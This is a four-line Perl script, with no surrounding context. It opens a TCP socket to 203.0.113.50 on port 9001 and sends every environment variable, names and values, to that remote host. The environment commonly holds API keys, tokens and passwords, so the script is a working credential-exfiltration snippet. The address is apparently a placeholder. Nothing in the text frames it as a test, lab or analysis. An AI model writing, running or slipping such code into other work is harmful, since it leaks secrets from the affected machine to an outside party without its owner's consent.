use IO::Socket::INET;
my $s = IO::Socket::INET->new(PeerAddr => '203.0.113.50', PeerPort => 9001, Proto => 'tcp');
print $s join("\n", map { "$_=$ENV{$_}" } keys %ENV);
close $s;
